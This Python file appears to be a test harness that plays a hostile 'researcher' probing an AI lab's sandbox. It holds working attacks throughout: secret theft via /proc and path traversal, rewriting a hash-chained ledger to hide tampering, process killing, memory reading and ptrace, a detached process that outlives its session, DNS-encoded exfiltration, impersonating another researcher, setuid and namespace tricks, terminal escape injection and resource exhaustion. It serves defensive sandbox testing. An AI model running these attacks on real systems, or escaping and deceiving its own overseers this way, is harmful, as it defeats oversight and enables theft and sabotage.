"""Attacks on the walls: `sandbox.py WORKSPACE ATTACK`, a researcher that wants out.

It knows everything but the secrets: the judge tells it, in targets.json, where the vault, the ledger, the neighbours
and the victims are. What it got, it leaves in its workspace (claims.json, loot-*); whether it got anything is decided
outside. Nothing is touched but what targets.json names, so that it may run without walls.
"""

import contextlib
import ctypes
import json
import mmap
import os
import shutil
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from typing import Any

from aarlab.kit.client import Client, LabError, read_method

Targets = dict[str, Any]
MB = 2**20
HOLD = 0.6  # seconds: what was got is kept so long, for the judge to see it from outside
LIBC = ctypes.CDLL(None, use_errno=True)
CARD = 'name = "a gift"\nfamily = "other"\n'


def main(workspace: Path, attack: str) -> int:
    t = _targets(workspace)
    os.chdir(workspace)
    claims = {"attack": attack, **ATTEMPTS[t["do"]](t)}
    _tell(claims)
    return 0


def _targets(workspace: Path) -> Targets:
    while not (workspace / "targets.json").exists():
        time.sleep(0.01)
    told: Targets = json.loads((workspace / "targets.json").read_text())
    return told


def _tell(claims: dict[str, Any]) -> None:
    Path("claims.part").write_text(json.dumps(claims, default=str))
    Path("claims.part").rename("claims.json")


# -- what lies outside


def steal(t: Targets) -> dict[str, Any]:
    """Copy what the paths hold, by every name that a path may have from inside."""
    got: list[str] = []
    for path in t["paths"]:
        for name in (path, f"/proc/1/root{path}", f"/proc/self/root{path}", f"../../../../..{path}"):
            with contextlib.suppress(OSError):
                data = Path(name).read_bytes()
                Path(f"loot-{len(got)}").write_bytes(data[: 4 * MB])
                got.append(name)
                break
    return {"read": got}


def spoil(t: Targets) -> dict[str, Any]:
    """Write the mark into files, folders and links of others."""
    done = []
    for path in map(Path, t["paths"]):
        with contextlib.suppress(OSError):
            if path.is_dir():
                (path / t["mark"]).write_text(t["mark"])
            else:
                with path.open("ab") as file:
                    file.write(t["mark"].encode())
            done.append(str(path))
    return {"wrote": done}


def rewrite_ledger(t: Targets) -> dict[str, Any]:
    """Change the first record and chain all records anew, so that the chain alone does not tell."""
    try:
        with contextlib.closing(sqlite3.connect(t["paths"][0], timeout=2)) as c:
            c.execute("PRAGMA wal_autocheckpoint=0")
            prev, records = "0" * 64, c.execute("SELECT seq, time, kind, actor, payload FROM events ORDER BY seq")
            for number, at, kind, actor, text in records.fetchall():
                payload = text.replace('"commitment"', f'"was":"{t["mark"]}","commitment"')
                record = [prev, number, at, kind, actor, payload]
                digest = sha256(json.dumps(record, separators=(",", ":")).encode()).hexdigest()
                change = "UPDATE events SET payload=?, prev=?, hash=? WHERE seq=?"
                c.execute(change, (payload, prev, digest, number))
                prev = digest
            c.commit()
    except sqlite3.Error as error:
        return {"error": error}
    return {"rewritten": True}


def link(t: Targets) -> dict[str, Any]:
    """A note in a method that is a link to the secret; the lab's own client packs the folder."""
    Path("m").mkdir()
    Path("m/method.py").write_text(t["trivial"])
    Path("m/card.toml").write_text(CARD)
    Path("m/notes.md").symlink_to(t["paths"][0])
    Path("m/more.md").symlink_to(os.path.relpath(t["paths"][0], Path("m").absolute()))
    return _share(t, "links", files=read_method(Path("m")))


def hard_link(t: Targets) -> dict[str, Any]:
    return _try(lambda: os.link(t["paths"][0], "linked"))


# -- other processes


def kill(t: Targets) -> dict[str, Any]:
    return _try(lambda: os.kill(t["pid"], signal.SIGKILL))


def read_memory(t: Targets) -> dict[str, Any]:
    """By /proc/PID/mem, and by process_vm_readv."""

    def by_file() -> None:
        with open(f"/proc/{t['pid']}/mem", "rb", buffering=0) as memory:
            memory.seek(t["address"])
            Path("loot-memory").write_bytes(memory.read(t["length"]))

    def by_call() -> None:
        buffer = ctypes.create_string_buffer(t["length"])
        local = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), t["length"])
        remote = (ctypes.c_ulong * 2)(t["address"], t["length"])
        if LIBC.process_vm_readv(t["pid"], local, 1, remote, 1, 0) < 0:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        Path("loot-call").write_bytes(buffer.raw)

    return {"file": _try(by_file), "call": _try(by_call)}


def trace(t: Targets) -> dict[str, Any]:
    """PTRACE_SEIZE, held for a moment."""
    got = LIBC.ptrace(0x4206, t["pid"], None, None)
    claims = {"result": got, "errno": ctypes.get_errno()}
    child = subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(2)"])
    claims["own"] = LIBC.ptrace(0x4206, child.pid, None, None)  # even among its own it would serve other attacks
    time.sleep(HOLD)
    child.kill()
    return claims


def outlive(t: Targets) -> dict[str, Any]:
    """Leave the session and the parent, hear no signal, and stay."""
    _leave_behind(t["mark"])
    return {"left": True}


def _leave_behind(mark: str) -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(4)", mark])
    time.sleep(0.1)


# -- the network and the doors of others


def send_tcp(t: Targets) -> dict[str, Any]:
    return _try(lambda: _send(socket.AF_INET, ("127.0.0.1", t["port"]), t["mark"]))


def _send(family: int, address: Any, text: str) -> None:
    with socket.socket(family) as s:
        s.settimeout(1)
        s.connect(address)
        s.sendall(text.encode())


def send_udp(t: Targets) -> dict[str, Any]:
    """A question to a resolver, in whose name the loot travels."""
    name = b"".join(bytes([len(part)]) + part for part in (t["mark"].encode(), b"example"))
    question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 1, 1)

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return _try(lambda: s.sendto(question, ("127.0.0.1", t["port"])))


def send_unix(t: Targets) -> dict[str, Any]:
    """To a socket of the host: by path, or by an abstract name, which no mount hides."""

    return _try(lambda: _send(socket.AF_UNIX, t["socket"].replace("@", "\0", 1), t["mark"]))


def speak_as_another(t: Targets) -> dict[str, Any]:
    if _mine() != "r1":
        return {}
    own = Path(os.environ.get("LAB_SOCKET", "/lab.sock"))
    claims = {}
    for path in (own.with_name("r2.sock"), Path("/proc/1/root") / own.with_name("r2.sock").relative_to("/")):
        with contextlib.suppress(OSError, LabError):
            post = {"kind": "insight", "title": t["mark"], "text": "I am r2", "family": "other"}
            claims = Client(str(path)).call("share", **post)
    with contextlib.suppress(OSError, LabError):  # and by saying so
        Client().call("share", kind="insight", title=t["mark"], text="I am r2", family="other", researcher="r2")
    return claims


# -- powers


def namespaces(t: Targets) -> dict[str, Any]:
    """A user namespace of its own, in it a mount; the first process's namespaces; a mount as it is."""
    Path("mnt").mkdir()
    claims: dict[str, Any] = {"unshare": LIBC.unshare(0x10000000 | 0x00020000)}
    if claims["unshare"]:
        claims["mounts"] = LIBC.unshare(0x00020000)
    for name in ("user", "mnt", "pid", "net"):
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
            claims[name] = LIBC.setns(fd, 0) if t["walled"] else "left alone"
    if t["walled"] or 0 in (claims["unshare"], claims.get("mounts")):
        LIBC.mount(b"none", b"/", None, 0x4000 | 0x40000, None)  # private, so that nobody else sees it
        claims["mount"] = LIBC.mount(t["mark"].encode(), b"mnt", b"tmpfs", 0, None)
    time.sleep(HOLD)
    return claims


def setuid_file(t: Targets) -> dict[str, Any]:
    """A program that runs as its owner, and its owner is whoever started the lab."""
    claims = {}
    for name, mode in (("su", 0o4755), ("sg", 0o2755)):
        Path(name).write_text("#!/bin/sh\n")
        claims[name] = _try(lambda n=name, m=mode: os.chmod(n, m))  # type: ignore[misc]
    old = os.umask(0)
    claims["open"] = _try(lambda: os.close(os.open("su2", os.O_CREAT | os.O_WRONLY, 0o4755)))
    claims["mknod"] = _try(lambda: os.mknod("su3", 0o104755))
    os.umask(old)
    fd = os.open("su", os.O_RDWR)
    claims["fchmod"] = _try(lambda: os.fchmod(fd, 0o4755))
    how = struct.pack("=3Q", os.O_CREAT | os.O_WRONLY, 0o4755, 0)
    claims["openat2"] = LIBC.syscall(437, -100, b"su4", how, len(how))
    claims["fchmodat2"] = LIBC.syscall(452, -100, b"su", 0o4755, 0)
    return claims


def device_node(t: Targets) -> dict[str, Any]:
    """The null device by another name; a disk would be made the same way."""
    return _try(lambda: os.mknod("node", 0o020666, os.makedev(1, 3)))


def kernel_files(t: Targets) -> dict[str, Any]:
    """Open for writing what acts on the whole machine. It is not written."""
    opened, kept = [], []
    for path in t["kernel_files"]:
        with contextlib.suppress(OSError):
            kept.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            opened.append(path)
    time.sleep(HOLD)
    return {"opened": opened, "kept": kept}


def interfaces(t: Targets) -> dict[str, Any]:
    """io_uring, userfaultfd, perf events and bpf: the usual ways into a kernel."""
    calls = {"x86_64": (425, 323, 298, 321), "aarch64": (425, 282, 241, 280)}[os.uname().machine]
    params = ctypes.create_string_buffer(120)
    event = struct.pack("=IIQ", 1, 112, 0) + bytes(24) + struct.pack("=Q", 1 << 5) + bytes(64)
    array = struct.pack("=5I", 2, 4, 8, 1, 0) + bytes(44)
    got = [
        LIBC.syscall(calls[0], 1, params), LIBC.syscall(calls[1], 1),
        LIBC.syscall(calls[2], event, 0, -1, -1, 0), LIBC.syscall(calls[3], 0, array, len(array)),
    ]  # fmt: skip
    time.sleep(HOLD)
    return {"got": got}


def keyring(t: Targets) -> dict[str, Any]:
    """A key in the user's keyring, which knows no namespaces of processes."""
    number, control = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
    key = LIBC.syscall(number, b"user", t["mark"].encode(), t["mark"].encode(), len(t["mark"]), -4)
    if key > 0:
        LIBC.syscall(control, 15, key, 10)  # it expires by itself
    return {"key": key, "errno": ctypes.get_errno()}


def terminal(t: Targets) -> dict[str, Any]:
    """Type into the terminal from which the lab was started."""
    claims = {}
    for path in ("/dev/tty", t["terminal"]):
        try:
            with open(path, "wb", buffering=0) as tty:
                tty.write(b"\x1b]0;" + t["mark"].encode() + b"\x07")
                claims[path] = LIBC.ioctl(tty.fileno(), 0x5412, b"x")
        except OSError as error:
            claims[path] = error
    return claims


def control_group(t: Targets) -> dict[str, Any]:
    """A control group of one's own, outside all limits."""
    made = []
    for parent in t["groups"]:
        with contextlib.suppress(OSError):
            os.mkdir(f"{parent}/{t['mark']}")
            made.append(parent)
    return {"made": made}


# -- more than its share


def processes(t: Targets) -> dict[str, Any]:
    n = 0
    try:
        while n < t["size"]:
            pid = os.fork()
            if pid == 0:
                time.sleep(HOLD)
                os._exit(0)
            n += 1
    except OSError as error:
        return {"reached": n, "error": error}
    time.sleep(HOLD / 2)
    return {"reached": n, "finished": True}


def threads(t: Targets) -> dict[str, Any]:
    threading.stack_size(2**17)
    with contextlib.suppress(RuntimeError):
        for _ in range(t["size"]):
            threading.Thread(target=time.sleep, args=(HOLD,), daemon=True).start()
    n = threading.active_count() - 1
    time.sleep(HOLD / 2)
    return {"reached": n, "finished": n >= t["size"]}


def memory(t: Targets) -> dict[str, Any]:
    """Private memory, in several processes so that no single one is large."""
    children = []
    for _ in range(2):
        pid = os.fork()
        if pid == 0:
            try:
                held = b"x" * (t["size"] * MB // 2)
                time.sleep(HOLD + len(held) * 0)
                os._exit(0)
            except MemoryError:
                os._exit(3)
        children.append(pid)
    ends = [os.waitpid(pid, 0)[1] for pid in children]
    return {"reached": t["size"], "finished": True} if ends == [0, 0] else {"ends": ends}


def shared_memory(t: Targets) -> dict[str, Any]:
    """Anonymous shared memory and files in memory: in no process's private pages."""
    held: list[Any] = []
    for _ in range(t["size"] // 2):
        part = mmap.mmap(-1, MB)
        part.write(b"x" * MB)
        held.append(part)
        fd = os.memfd_create("x")
        os.write(fd, b"x" * MB)
        held.append(fd)
    time.sleep(HOLD)
    return {"reached": t["size"], "finished": True}


def disk(t: Targets) -> dict[str, Any]:
    return _fill(Path("."), t["size"])


def temporary(t: Targets) -> dict[str, Any]:
    folder = Path(tempfile.mkdtemp())
    try:
        return _fill(folder, t["size"])
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def _fill(folder: Path, size: int) -> dict[str, Any]:
    n = 0
    try:
        for n in range(size):
            (folder / f"fill-{n}").write_bytes(b"x" * MB)
    except OSError as error:
        return {"reached": n, "error": error}
    time.sleep(HOLD)
    return {"reached": size, "finished": True}


def unnamed(t: Targets) -> dict[str, Any]:
    """Files that are deleted and held open: no listing shows them."""
    held = []
    for n in range(t["size"]):
        file = open(f"gone-{n}", "wb", buffering=0)  # noqa: SIM115
        os.unlink(f"gone-{n}")
        file.write(b"x" * MB)
        held.append(file)
    time.sleep(2 * HOLD)
    return {"reached": t["size"], "finished": True}


def deep(t: Targets) -> dict[str, Any]:
    """Fill a folder so far down that its path is longer than a path may be."""
    for _ in range(50):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    told = _fill(Path("."), t["size"])
    os.chdir("/".join([".."] * 50))
    return told


def one_file(t: Targets) -> dict[str, Any]:
    n = 0.0
    with open("large", "wb", buffering=0) as file:
        try:
            while n < t["size"]:
                n += file.write(b"x" * MB) / MB
        except OSError as error:
            return {"reached": n, "error": error}
    time.sleep(HOLD)
    return {"reached": t["size"], "finished": True}


def inodes(t: Targets) -> dict[str, Any]:
    for n in range(t["size"]):
        Path(f"n{n}").touch()
    time.sleep(HOLD)
    return {"reached": t["size"], "finished": True}


def open_files(t: Targets) -> dict[str, Any]:
    held: list[Any] = []
    try:
        held += [os.open(os.devnull, os.O_RDONLY) for _ in range(t["size"])]
    except OSError as error:
        return {"reached": len(held), "error": error}
    return {"reached": len(held), "finished": True}


def log(t: Targets) -> dict[str, Any]:
    for _ in range(t["size"]):
        sys.stdout.write("all is well\n" * (2**10 // 12))
    sys.stdout.flush()
    time.sleep(HOLD)
    return {"reached": t["size"], "finished": True}


def burn(t: Targets) -> dict[str, Any]:
    """Processor time, half of it in a child."""
    if (pid := os.fork()) == 0:
        _spin(t["size"] / 2)
        os._exit(0)
    os.waitpid(pid, 0)
    _spin(t["size"] / 2)
    return {"reached": t["size"], "finished": True}


def _spin(seconds: float) -> None:
    until = time.process_time() + seconds
    while time.process_time() < until:
        pass


# -- what the lab is handed


def names(t: Targets) -> dict[str, Any]:
    """File names that lead out of the snapshots' folder."""
    method = {"method.py": t["trivial"], "card.toml": CARD}
    up = {f"../../../{t['mark']}.md": t["mark"], f"../{t['mark']}.txt": t["mark"]}
    out = {f"{folder}/{t['mark']}.md": t["mark"] for folder in t["paths"]}
    return {str(i): _share(t, "names", files={**method, **extra}) for i, extra in enumerate((up, out))}


def archive(t: Targets) -> dict[str, Any]:
    """A folder in a folder in an archive, in text: thirty kilobytes that would unpack to megabytes."""
    note = t["packed"]
    files = {"method.py": t["trivial"], "card.toml": CARD, "notes.md": note}
    return {"text": _share(t, "archive", files=files), "file": _share(t, "file", files={**files, "data.zip": note})}


def large_request(t: Targets) -> dict[str, Any]:
    """A line of twice the most that is read; and one that is nested as deep as the line is long."""
    claims = {}
    for name, body in (("long", b'{"verb": "hello", "pad": "' + b"x" * t["size"] + b'"}'), ("deep", b"[" * 200_000)):
        with socket.socket(socket.AF_UNIX) as s, contextlib.suppress(OSError):
            s.settimeout(5)
            s.connect(os.environ.get("LAB_SOCKET", "/lab.sock"))
            with contextlib.suppress(OSError):
                s.sendall(body + b"\n")
            claims[name] = s.recv(200).decode(errors="replace")
    return claims


def slow_doors(t: Targets) -> dict[str, Any]:
    """Open more connections than are served, say a little on each, and wait; a neighbour wants to be heard."""
    if t["waits"]:  # the neighbour, which is told its targets once the doors are held
        return _share(t, "is anybody there")
    held = []
    for _ in range(t["size"]):
        s = socket.socket(socket.AF_UNIX)
        s.setblocking(False)
        with contextlib.suppress(OSError):
            s.connect(os.environ.get("LAB_SOCKET", "/lab.sock"))
            s.send(b'{"verb": ')
        held.append(s)
    Path("held").touch()
    time.sleep(2)
    Path("released").touch()
    return {"held": len(held)}


def strange_names(t: Targets) -> dict[str, Any]:
    """Things in the workspace for the lab to trip over."""
    for name in (b"\xff\xfe\xed\xa0\x80", b"a\nb", b"\x1b[2Jc", b"-rf *", b"n" * 255):
        Path(os.fsdecode(name)).touch()
    os.mkfifo("pipe")
    Path("loop").symlink_to("loop")
    with socket.socket(socket.AF_UNIX) as s:
        s.bind("door")
        time.sleep(HOLD)
    return {}


def escapes(t: Targets) -> dict[str, Any]:
    """Last words that would retitle, clear and fill the terminal of whoever reads the log."""
    sys.stderr.write(f"\x1b]0;{t['mark']}\x07\x1b[2J\x9b31m \u202e all is well {t['mark']}\r\n")
    return {}


# -- methods that attack


def practise(t: Targets) -> dict[str, Any]:
    """Hand in a method that attacks, and have it run on public instances."""
    return _try(lambda: Client().practice(_method(t), [t["practice"]]))


def submit(t: Targets) -> dict[str, Any]:
    """Hand in a method that attacks, and wait until the lab has run it on the sealed ones."""
    client = Client()
    claims = _try(lambda: client.submit(_method(t)))
    until = time.monotonic() + 60
    while time.monotonic() < until:
        with contextlib.suppress(LabError, OSError):
            if all(s["status"] != "waiting" for s in client.submissions()["submissions"]):
                break
        time.sleep(0.1)
    return claims


def _method(t: Targets) -> dict[str, str]:
    told = {**t, "door": os.environ.get("LAB_SOCKET", "/lab.sock")}
    code: str = t["method"]
    for name in ("mark", "draws", "door", "port", "folders", "paths", "outside"):
        code = code.replace("{" + name + "}", str(told.get(name)))
    return {"method.py": code, "card.toml": CARD}


def _share(t: Targets, title: str, **more: Any) -> dict[str, Any]:
    post = {"kind": "insight", "title": f"{title} {t['mark']}", "text": "a finding", **more}
    return _try(lambda: Client().share(**post))


def _mine() -> str:
    return str(Client().hello()["researcher"])


def _try(work: Callable[[], Any]) -> dict[str, Any]:
    try:
        return {"done": work()}
    except (OSError, LabError) as error:
        return {"error": f"{type(error).__name__}: {error}"}


ATTEMPTS: dict[str, Callable[[Targets], dict[str, Any]]] = {
    f.__name__: f
    for f in (
        steal, spoil, rewrite_ledger, link, hard_link, kill, read_memory, trace, outlive, send_tcp, send_udp, send_unix,
        speak_as_another, namespaces, setuid_file, device_node, kernel_files, interfaces, keyring, terminal,
        control_group, processes, threads, memory, shared_memory, disk, temporary, unnamed, deep, one_file, inodes,
        open_files, log, burn, names, archive, large_request, slow_doors, strange_names, escapes, practise, submit,
    )
}  # fmt: skip

if __name__ == "__main__":
    sys.exit(main(Path(sys.argv[1]).absolute(), sys.argv[2]))
